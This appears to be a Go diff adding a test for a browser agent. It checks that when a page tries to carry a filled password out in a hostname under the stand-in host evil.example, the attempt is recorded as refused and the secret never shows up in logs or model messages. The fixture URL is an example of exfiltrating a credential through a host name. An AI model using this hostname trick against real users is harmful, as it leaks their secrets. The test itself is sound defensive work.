@@ -251,3 +251,44 @@ func (w *restless) Stopped() (all []string) {
 	}
 	return all
 }
+
+// mixedCase is a vault whose values have capitals, and nothing else that a host has not.
+type mixedCase struct{ *vault }
+
+const mixedCaseValue = "kestrelHarbour93"
+
+func (v mixedCase) Use(ctx context.Context, key, field string) (browser.Fill, error) {
+	fill, err := v.vault.Use(ctx, key, field)
+	fill.Value = bctrl.NewSecret(mixedCaseValue)
+	return fill, err
+}
+
+// TestAValueInTheNameOfAHostIsRecordedNowhere has a page go to a host that has what was
+// filled in its name, which a browser writes in small letters.
+func TestAValueInTheNameOfAHostIsRecordedNowhere(t *testing.T) {
+	carried := "https://" + strings.ToLower(mixedCaseValue) + ".evil.example/x"
+	w := &windows{site: newSite("login"), stops: []string{carried},
+		tabs: []browser.Tab{{ID: "t1", URL: hostsHome, Active: true}}}
+	script := []*model.Response{
+		calls("fill_login", `{"key":"`+vaultKey+`","password_ref":"e2"}`),
+		calls("press", `{"key":"Enter"}`),
+		calls("done", `{"success":true,"message":""}`),
+	}
+	chat := &asked{answer: func(n int, _ model.Request) (*model.Response, error) { return script[n], nil }}
+	d, got := onPage(chat, w), refusals{}
+	d.Refused, d.Files, d.Logins = got.record, noFiles{}, mixedCase{&vault{}}
+	result, err := agent.BrowserUse(t.Context(), d, bctrl.BrowserUseArgs{
+		Task:         "x",
+		AllowedHosts: []string{"example.com"},
+	}, 0)
+	require.NoError(t, err)
+	require.Len(t, got, 1, "the attempt is recorded")
+	all := strings.ToLower(fmt.Sprint(got, result.Actions))
+	for _, q := range chat.questions {
+		for _, m := range q.Messages {
+			all += strings.ToLower(m.Text)
+		}
+	}
+	require.False(t, strings.Contains(all, strings.ToLower(mixedCaseValue)), "a value is in what was recorded or told")
+	require.Contains(t, all, "evil.example", "but for the value it is named")
+}
